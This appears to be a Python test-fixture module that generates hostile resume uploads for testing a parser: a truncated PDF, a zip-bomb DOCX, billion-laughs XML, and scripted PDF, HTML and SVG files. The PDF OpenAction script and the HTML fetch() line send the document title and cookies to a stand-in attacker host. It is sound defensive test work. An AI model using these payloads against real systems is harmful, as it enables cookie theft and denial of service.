"""Hostile resume files, built in memory in well under a second each: nothing large is committed.

Each function returns the bytes of one attack a stranger can upload: damaged, scripted, outsized, compressed
to explode, entity-expanding, disguised as another type, or a flood of files in one archive.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pypdf
from fixtures.make_resumes import make_docx, make_text_pdf
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

PAGES_2000 = 2000
BOMB_EXPANDED_BYTES = 2 * 1024**3  # what the zip-bomb DOCX's document.xml declares and inflates to

RESUME_HEADER = ["Jordan Hostile", "jordan.hostile@example.com | (415) 555-0199 | Austin, TX", "", "Experience"]


def truncated_pdf() -> bytes:
    """A real two-page resume PDF cut off half way, as an interrupted download leaves it."""
    whole = make_text_pdf([*RESUME_HEADER, *(f"Built Python services, release {i}" for i in range(80))])
    return whole[: len(whole) // 2]


def javascript_pdf() -> bytes:
    """A one-page resume whose catalog runs JavaScript when opened (/OpenAction), the classic PDF payload."""
    reader = pypdf.PdfReader(io.BytesIO(make_text_pdf([*RESUME_HEADER, "Senior Engineer, Acme, 2019 - 2024"])))
    writer = pypdf.PdfWriter()
    writer.append(reader)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('https://attacker.example/?c=' + this.info.Title);"),
        }
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_of_pages(pages: int = PAGES_2000) -> bytes:
    """A resume of `pages` pages of 50 lines: a new dated role every 10 lines, skills on every line (~7 MB)."""
    lines = list(RESUME_HEADER)
    for number in range(pages * 50 - len(lines)):
        if number % 10 == 0:
            year = 1950 + number // 10 % 70
            lines.append(f"Engineer {number}, Company {number}, Jan {year} - Dec {year + 1}")
        else:
            lines.append(f"- Built Python, Django and PostgreSQL services on Kubernetes, task {number}")
    return make_text_pdf(lines)


def docx_zip_bomb(expanded_bytes: int = BOMB_EXPANDED_BYTES) -> bytes:
    """A valid DOCX whose word/document.xml inflates to `expanded_bytes` (gigabytes) of spaces from ~2 MB.

    Deflating gigabytes takes seconds; instead one megabyte is compressed with a full flush (which resets the
    compressor, so the next megabyte compresses to the very same bytes) and that block is repeated.
    """
    megabyte = 1024 * 1024
    if expanded_bytes % megabyte:
        raise ValueError("expanded_bytes must be a whole number of megabytes")
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b" " * megabyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeats = expanded_bytes // megabyte
    crc = 0
    for _ in range(repeats):
        crc = zlib.crc32(b" " * megabyte, crc)
    deflated = block * repeats + b"\x03\x00"  # an empty final block ends the stream
    members = {name: _deflated(data) for name, data in _members(make_docx(["Jordan Hostile", "Engineer"])).items()}
    members["word/document.xml"] = (deflated, expanded_bytes, crc)
    return _zip_from_deflated(members)


def billion_laughs_xml() -> bytes:
    """The "billion laughs": ten levels of ten entity references, about 3 GB once expanded."""
    levels = ['<!ENTITY lol0 "lol">']
    levels += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n  ' + "\n  ".join(levels) + "\n]>\n<lolz>&lol9;</lolz>\n"
    ).encode()


def billion_laughs_docx() -> bytes:
    """A DOCX whose document.xml declares the billion laughs and uses it in a paragraph."""
    members = _members(make_docx(["Jordan Hostile"]))
    document = members["word/document.xml"]
    entities = billion_laughs_xml().split(b"<lolz>")[0].split(b"<!DOCTYPE lolz ")[1]
    root = document.index(b"<w:document")
    document = document[:root] + b"<!DOCTYPE w:document " + entities + document[root:]
    members["word/document.xml"] = document.replace(b"Jordan Hostile", b"Jordan Hostile &lol9;")
    return _zip_from_deflated({name: _deflated(data) for name, data in members.items()})


def html_named_pdf() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><title>Resume</title>"
        b"<script>fetch('https://attacker.example/'+document.cookie)</script></head>"
        b"<body><h1>Jordan Hostile</h1><p>Python engineer</p></body></html>\n"
    )


def svg_named_pdf() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50" onload="alert(document.domain)">'
        b'<text x="10" y="30">Jordan Hostile, Python engineer</text></svg>\n'
    )


def resume_archive(files: int) -> bytes:
    """A ZIP of `files` distinct one-line resumes (text files), compressed, about 40 bytes each."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(files):
            archive.writestr(
                f"resumes/candidate-{number:04d}.txt",
                f"Candidate {number:04d}\ncandidate{number}@example.com\nPython developer\n",
            )
    return buffer.getvalue()


# --- a ZIP writer for members whose deflated bytes are given ----------------------------------------------


def _members(package: bytes) -> dict[str, bytes]:
    """A ZIP's members as name -> uncompressed bytes, in order."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(), len(data), zlib.crc32(data)


def _zip_from_deflated(members: dict[str, tuple[bytes, int, int]]) -> bytes:
    """A ZIP whose members are (raw deflate stream, uncompressed size, CRC-32), written as they are; the
    declared sizes are the true ones. Sizes must stay below 4 GiB (no ZIP64)."""
    out = io.BytesIO()
    central = []
    for name, (payload, size, crc) in members.items():
        encoded = name.encode()
        offset = out.tell()
        out.write(struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(payload), size, len(encoded), 0))
        out.write(encoded + payload)
        central.append(
            struct.pack(
                "<4s6H3I5H2I",
                b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(payload), size, len(encoded), 0, 0, 0, 0, 0, offset,
            )
            + encoded
        )  # fmt: skip
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(central), len(central), len(directory), start, 0))
    return out.getvalue()
